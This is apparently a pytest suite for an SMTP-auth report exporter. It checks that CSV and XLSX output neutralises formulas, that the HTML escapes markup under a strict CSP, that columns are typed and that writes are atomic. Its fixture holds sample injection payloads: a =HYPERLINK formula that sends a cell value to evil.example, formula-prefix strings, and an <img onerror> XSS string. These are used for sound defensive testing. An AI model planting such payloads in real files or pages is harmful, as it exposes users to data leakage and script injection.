"""XLSX and Parquet are typed; nothing in CSV or XLSX becomes a formula; the HTML escapes markup; files are atomic.
Runs on SQLite and PostgreSQL (the report's SQL is the same on both)."""

import csv
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest

from connector.artifacts import ReportParams, build_report
from connector.store.store import Store, open_store
from models import MessageTrace, SignIn, SmtpCsReportRow

DAY = date(2026, 11, 20)
EVIL = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")@evil.example',
    "+1@evil.example",
    "-1@evil.example",
    "@SUM(1+1)@evil.example",
    "\tcmd@evil.example",
    "\rcr@evil.example",
    "\nlf@evil.example",
    "<img src=x onerror=alert(1)>@evil.example",
)


@pytest.fixture
def store(db_url: str) -> Iterator[Store]:
    s = open_store(db_url)
    at = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
    cs_rows = [
        {"tenant": "t", "occurred_at": at + timedelta(minutes=i), "sender_address": sender,
         "sender_domain": "evil.example", "auth_method": "Basic", "client_ip": "198.51.100.1",
         "tls_version": ("TLS1.0", "TLS1.2")[i % 2],
         "tls_cipher": None, "message_count": 1, "message_id": f"<m{i}@x>", "job_id": None}
        for i, sender in enumerate(EVIL)
    ]  # fmt: skip
    trace = [
        {"tenant": "t", "trace_id": f"tr{i}", "message_id": f"<o{i}@x>", "sender_address": "printer@contoso.com",
         "recipient_address": "a@contoso.com", "received_at": at + timedelta(days=1, minutes=i), "status": "delivered",
         "size": 10, "subject": "s", "from_ip": "198.51.100.2", "to_ip": None, "from_smtp_signin_ip": True}
        for i in range(3)
    ]  # fmt: skip
    signin = {
        "tenant": "t", "signin_id": "s1", "created_at": at + timedelta(days=1),
        "user_principal_name": "printer@contoso.com",
        "ip_address": "198.51.100.2", "client_app_used": "Authenticated SMTP", "error_code": 0,
    }  # fmt: skip
    with s.transaction() as tx:
        s.upsert(tx, SmtpCsReportRow, cs_rows, key=("tenant", "occurred_at", "sender_address", "message_id"))
        s.upsert(tx, MessageTrace, trace, key=("tenant", "trace_id"))
        s.upsert(tx, SignIn, [signin], key=("tenant", "signin_id"))
    yield s
    s.close()


def params(formats: tuple[str, ...]) -> ReportParams:
    return ReportParams(tenant="t", date_from=DAY, date_to=DAY + timedelta(days=1), formats=formats)


def test_csv_and_xlsx_hold_no_formula(store: Store, tmp_path: Path) -> None:
    build_report(store, params(("csv", "xlsx")), tmp_path)
    with (tmp_path / "tls_usage_by_sender.csv").open(newline="", encoding="utf-8") as fh:
        senders = [r["sender_address"] for r in csv.DictReader(fh)]
    assert len(senders) == len(EVIL) + 1
    for value in senders:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), repr(value)
    assert "'=HYPERLINK(" + EVIL[0][len("=HYPERLINK(") :] in senders
    book = openpyxl.load_workbook(tmp_path / "smtp_auth_report.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


def test_xlsx_cells_are_typed_with_a_frozen_header(store: Store, tmp_path: Path) -> None:
    build_report(store, params(("xlsx",)), tmp_path)
    book = openpyxl.load_workbook(tmp_path / "smtp_auth_report.xlsx")
    assert "sending_volume_by_domain" in book.sheetnames
    assert "accounts" in book.sheetnames
    ws = book["sending_volume_by_domain"]
    assert ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    assert header == ["Date", "Domain", "Messages"]  # people read the XLSX: human headers
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert rows == [(datetime(2026, 11, 20), "evil.example", 8), (datetime(2026, 11, 21), "contoso.com", 3)]
    tls = book["tls_usage_by_sender"]
    plus = next(r for r in tls.iter_rows(min_row=2, values_only=True) if r[0] == "'+1@evil.example")
    assert plus[2:8] == (1, 0, 0, 1, 0, 0)
    assert plus[8:12] == (0, 0, 100, 0)
    printer = next(r for r in tls.iter_rows(min_row=2, values_only=True) if r[0] == "printer@contoso.com")
    assert printer[7] == 3
    assert printer[8] is None
    accounts = book["accounts"]
    head = [c.value for c in accounts[1]]
    printer = next(r for r in accounts.iter_rows(min_row=2, values_only=True) if r[0] == "printer@contoso.com")
    assert isinstance(printer[head.index("Last sign-in (UTC)")], datetime)
    assert printer[head.index("In usage report")] is False
    assert "Next step" in head


def test_parquet_columns_are_typed(store: Store, tmp_path: Path) -> None:
    build_report(store, params(("parquet",)), tmp_path)
    table = pq.read_table(tmp_path / "parquet" / "sending_volume_by_sender.parquet")
    assert [str(t) for t in table.schema.types] == [
        "date32[day]", "string", "string", "int64", "date32[day]", "string", "int64"
    ]  # fmt: skip
    assert table.column("messages").to_pylist() == [1] * len(EVIL) + [3]
    tls = pq.read_table(tmp_path / "parquet" / "tls_usage_by_sender.parquet")
    assert str(tls.schema.field("tls10_pct").type) == "double"
    accounts = pq.read_table(tmp_path / "parquet" / "accounts.parquet")
    assert str(accounts.schema.field("last_signin_at").type) == "timestamp[us, tz=UTC]"
    assert str(accounts.schema.field("smtp_auth_enabled").type) == "bool"


def test_html_escapes_markup_and_forbids_remote_loads(store: Store, tmp_path: Path) -> None:
    build_report(store, params(("html",)), tmp_path)
    page = (tmp_path / "smtp_auth_report.html").read_text(encoding="utf-8")
    assert "<img" not in page
    assert "\\u003cimg src=x onerror=alert(1)\\u003e@evil.example" in page
    csp = page.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
    assert "default-src 'none'" in csp
    assert "unsafe-inline" not in csp
    assert "http" not in csp
    assert 'src="http' not in page
    assert 'href="http' not in page


def test_no_temporary_file_is_left_behind(store: Store, tmp_path: Path) -> None:
    result = build_report(store, params(("csv", "xlsx", "parquet", "html")), tmp_path)
    left = [p for p in tmp_path.rglob("*") if p.name.endswith(".tmp")]
    assert left == []
    assert {p.name for p in result.paths} >= {"accounts.csv", "smtp_auth_report.xlsx", "smtp_auth_report.html"}


def test_a_failed_build_leaves_the_previous_files(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    build_report(store, params(("csv",)), tmp_path)
    before = (tmp_path / "accounts.csv").read_bytes()
    from connector.artifacts import build

    def broken(*_: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(build, "coverage_rows", broken)
    with pytest.raises(OSError, match="disk full"):
        build_report(store, params(("csv",)), tmp_path)
    assert (tmp_path / "accounts.csv").read_bytes() == before
    assert [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
